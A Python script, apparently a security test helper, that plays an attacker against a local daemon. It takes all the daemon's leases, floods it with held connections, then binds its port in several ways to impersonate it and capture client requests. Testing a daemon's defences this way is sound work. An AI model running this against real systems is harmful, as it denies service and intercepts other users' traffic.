"""A user who wants the daemon's address: takes its descriptors with leases and connections, and binds in a loop.

Usage: thief.py PORT LEASES CONNECTIONS. Runs as user 65534. Prints one JSON object a line: first what it has taken,
then a report for each line that comes in. Ends with its stdin, and after ten minutes in any case.
"""

import encodings.idna  # noqa: F401  create_connection() needs it, and may be unable to read it as another user
import json
import os
import re
import resource
import select
import signal
import socket
import sys
import time

NOBODY = 65534
CONNECTIONS_A_PROCESS = 4000
SECONDS = 600
WAYS = {"plain": (), "reuseaddr": (socket.SO_REUSEADDR,), "reuseport": (socket.SO_REUSEPORT,),
        "both": (socket.SO_REUSEADDR, socket.SO_REUSEPORT)}
ADDRESSES = ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1"))


def lease(port, most):
    """Leases until no more is granted. Returns how many there are."""
    body = b'{"lifetime":{"kind":"pinned"}}'
    head = f"POST /v1/leases HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/json\r\n"
    request = (head + f"Content-Length: {len(body)}\r\n\r\n").encode() + body
    with socket.create_connection(("127.0.0.1", port)) as connection:
        for count in range(most):
            connection.sendall(request)
            if not read_answer(connection).startswith(b"HTTP/1.1 201"):
                return count
    return most


def read_answer(connection):
    """One answer with its body, whose length is in the head."""
    answer = b""
    while True:
        part = connection.recv(65536)
        answer += part
        head, _, body = answer.partition(b"\r\n\r\n")
        length = re.search(rb"(?i)content-length: *(\d+)", head)
        if part == b"" or (length is not None and len(body) >= int(length[1])):
            return answer


def is_open(connection):
    try:
        return connection.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def flood(port, most, first_wave):
    """Keeps connections open and replaces those that are cut; says when there are enough, or when one was refused."""
    held, refused = [], 0
    while True:
        if len(held) < most:
            connection = socket.socket()
            try:
                connection.settimeout(1)
                connection.connect(("127.0.0.1", port))
                held.append(connection)
            except OSError:
                connection.close()
                refused += 1
        if first_wave is not None and (len(held) >= most or refused > 0):
            os.write(first_wave, b".")
            first_wave = None
        if len(held) >= most or refused % 50 == 49:
            open_ones = [connection for connection in held if is_open(connection)]
            for connection in set(held) - set(open_ones):
                connection.close()
            held, refused = open_ones, 0
            time.sleep(0.01)


def bind(family, address, port, options):
    listener = socket.socket(family)
    try:
        for option in options:
            listener.setsockopt(socket.SOL_SOCKET, option, 1)
        listener.bind((address, port))
        listener.listen()
        return listener
    except OSError:
        listener.close()
        return None


def receive(listener, received):
    """Serves as a daemon that lies would, until nobody comes for three seconds or a report is asked for."""
    while select.select([listener, sys.stdin], [], [], 3)[0] == [listener]:
        connection = listener.accept()[0]
        with connection:
            connection.settimeout(1)
            try:
                received.append(connection.recv(65536).decode("latin-1"))
                answer = b'{"pid":1,"name":"portd","proof":"' + b"0" * 64 + b'"}'
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: "
                                   + str(len(answer)).encode() + b"\r\n\r\n" + answer)
                received.append(connection.recv(65536).decode("latin-1"))
            except OSError:
                received.append("")


def grab(port, flooders):
    """Binds in every way until its stdin ends, and reports when it is asked to. Who has the address floods no more."""
    report = {"tries": 0, "bound": [], "received": []}
    while True:
        for family, address in ADDRESSES:
            for way, options in WAYS.items():
                report["tries"] += 1
                listener = bind(family, address, port, options)
                if listener is not None:
                    end(flooders)
                    report["bound"].append(f"{address} {way}")
                    receive(listener, report["received"])
                    listener.close()
        if select.select([sys.stdin], [], [], 0)[0]:
            if sys.stdin.readline() == "":
                return
            print(json.dumps(report), flush=True)


def end(children):
    while children:
        child = children.pop()
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def main():
    port, leases, connections = map(int, sys.argv[1:])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20000), hard))
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    signal.alarm(SECONDS)
    leased = lease(port, leases)
    ready, first_wave = os.pipe()
    children = []
    for begin in range(0, connections, CONNECTIONS_A_PROCESS):
        child = os.fork()
        if child == 0:
            signal.alarm(SECONDS)
            flood(port, min(CONNECTIONS_A_PROCESS, connections - begin), first_wave)
        children.append(child)
    for _ in children:
        os.read(ready, 1)
    print(json.dumps({"leased": leased}), flush=True)
    try:
        grab(port, children)
    finally:
        end(children)


main()
